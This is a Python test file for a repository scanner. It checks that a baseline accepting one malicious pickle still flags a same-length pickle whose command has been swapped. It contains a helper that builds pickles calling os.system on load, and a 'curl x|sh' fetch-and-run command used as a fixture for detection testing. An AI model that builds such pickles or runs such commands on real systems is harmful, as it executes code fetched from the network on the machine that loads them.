"""A baseline entry accepts one payload: a dangerous pickle whose command is swapped is a new finding."""

from __future__ import annotations

import json

from governance_hooks.cli import main


def _pickle(command: bytes) -> bytes:
    # protocol 0: os.system(command) on load (never loaded here; the scanner simulates it)
    return b"cos\nsystem\n(S'" + command + b"'\ntR."


def test_swapped_command_of_the_same_length_is_not_absorbed(make_repo, tmp_path, capsys):
    root = make_repo({"models/evil.pkl": _pickle(b"echo hello")})
    base = tmp_path / "baseline.json"
    argv = ["run", "--repo", str(root), "--checks", "checkpoint", "--format", "json"]
    assert main(argv + ["--write-baseline", str(base)]) == 0
    capsys.readouterr()
    assert main(argv + ["--baseline", str(base)]) == 0  # the accepted payload stays accepted
    assert json.loads(capsys.readouterr().out)["findings"] == []
    (root / "models" / "evil.pkl").write_bytes(_pickle(b"curl x|sh "))  # same length, same offsets
    assert main(argv + ["--baseline", str(base)]) == 1
    findings = json.loads(capsys.readouterr().out)["findings"]
    assert [(f["rule_id"], f["path"]) for f in findings] == [("checkpoint/code-execution", "models/evil.pkl")]
